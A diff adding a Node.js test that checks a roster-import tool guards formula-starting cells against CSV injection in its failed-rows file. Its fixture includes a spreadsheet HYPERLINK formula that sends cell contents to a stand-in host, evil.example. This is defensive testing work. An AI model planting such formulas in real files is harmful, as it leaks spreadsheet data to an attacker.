@@ -45,6 +45,39 @@ test("import --json: summary last, failed rows in <roster>.failed.csv (re-import
   assert.equal(posts(sim).length, 20, "a finished import rerun sends nothing");
 });
 
+test("the failed file guards cells a spreadsheet would run as formulas (CSV injection) with an apostrophe, and reads back as the roster held them", async (t) => {
+  const { sim, env, dir } = await world(t);
+  const state = ["--state-dir", join(dir, "state"), "--json", "--rate", "500"];
+  const file = join(dir, "roster.csv");
+  // Values a volunteer could have typed into a sign-up form the roster was exported from;
+  // the gender X fails each row before it is sent.
+  const first = '=HYPERLINK("http://evil.example/?"&A1,"fix me")';
+  await writeFile(file, "External ID,First Name,Last Name,Email,Phone,Gender\r\n"
+    + `crm-1,"${first.replace(/"/g, '""')}",-Berg,f1@example.org,+1 555 0100,X\r\n`
+    + "crm-2,@Ann,Lee,f2@example.org,''+44 20,X\r\n"
+    + "crm-3,Ok,Person,f3@example.org,,F\r\n");
+  const r = await cli(["import", file, ...state], { env });
+  assert.equal(r.code, 0, r.stderr);
+  assert.deepEqual([jsonLines(r.stdout).at(-1).created, jsonLines(r.stdout).at(-1).failed], [1, 2]);
+  const failed = await readFile(join(dir, "roster.failed.csv"), "utf8");
+  const cells = failed.split("\r\n").slice(1, 3).join("\n");
+  // No cell of a failed row begins with a formula character.
+  assert.match(failed, /^2,invalid_input,[^\r\n]*,crm-1,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""fix me""\)",'-Berg,f1@example\.org,'\+1 555 0100,/m);
+  assert.match(failed, /^3,invalid_input,[^\r\n]*,crm-2,'@Ann,Lee,f2@example\.org,''\+44 20,/m, "'+44 20 (one apostrophe read off the roster's two) is guarded too");
+  for (const c of cells.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/)) assert.doesNotMatch(c.replace(/^"/, ""), /^[=+\-@]/, c);
+
+  // Read back (as `import` reads the fixed file), every value is the roster's own.
+  const back = parseRosterCsv(failed).records;
+  assert.deepEqual(back.map((x) => [x.firstName, x.lastName, x.phone]), [[first, "-Berg", "+1 555 0100"], ["@Ann", "Lee", "'+44 20"]]);
+  await writeFile(join(dir, "fixed.csv"), failed.replace(/,X,/g, ",F,"));
+  const fixed = await cli(["import", join(dir, "fixed.csv"), ...state], { env });
+  assert.equal(fixed.code, 0, fixed.stderr);
+  assert.equal(jsonLines(fixed.stdout).at(-1).created, 2);
+  const sent = sim.listAll().find((u) => u.email === "f1@example.org");
+  assert.deepEqual([sent.first_name, sent.last_name, sent.phone], [first, "-Berg", "+1 555 0100"], "sent without the guard");
+  assert.equal(sim.listAll().find((u) => u.email === "f2@example.org").phone, "'+44 20");
+});
+
 test("a row whose email changed for its External ID is not sent (it would create a second VOMO user): listed as email_changed; once VOMO has the new email, the failed file imported with --accept-email-changes updates the same user", async (t) => {
   const { sim, env, dir } = await world(t);
   const state = ["--state-dir", join(dir, "state"), "--json", "--rate", "500"];
